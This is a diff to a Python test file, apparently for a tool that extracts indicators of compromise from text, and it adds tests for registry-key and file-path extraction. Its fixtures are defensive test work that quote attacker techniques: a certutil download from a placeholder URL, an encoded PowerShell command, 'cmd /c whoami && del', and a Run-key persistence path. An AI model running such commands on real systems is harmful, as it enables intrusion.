@@ -62,7 +62,10 @@ def test_host_indicators(value):
     t = F.lit("run evil-tool.exe via cmd /c whoami && del and HKLM\\Software\\Run")
     assert value(indicators.processes(t)) == ["evil-tool.exe"]
     assert value(indicators.registry_keys(F.lit("HKLM\\Software\\Run"))) == ["HKLM\\Software\\Run"]
-    assert value(indicators.registry_keys(F.lit("HKXX\\Software\\Run"))) == []
+    assert value(indicators.registry_keys(F.lit("HKXX\\Other\\Run"))) == []
+    assert value(indicators.registry_keys(F.lit("at SOFTWARE\\Vendor"))) == ["SOFTWARE\\Vendor"]
+    assert value(indicators.file_paths(F.lit("%TEMP%\\a.bin"))) == ["%TEMP%\\a.bin"]
+    assert value(indicators.file_paths(F.lit("see /tmp/x1/run.sh"))) == ["/tmp/x1/run.sh", "/x1/run.sh"]
     assert value(indicators.commands(F.lit("certutil -urlcache -split -f http://x/y"))) == ["certutil -urlcache -split -f http://x/y"]
     assert value(indicators.commands(F.lit("the malware uses powershell -enc " + "QUJD" * 8))) == ["powershell -enc " + "QUJD" * 8, "-enc " + "QUJD" * 8]
 
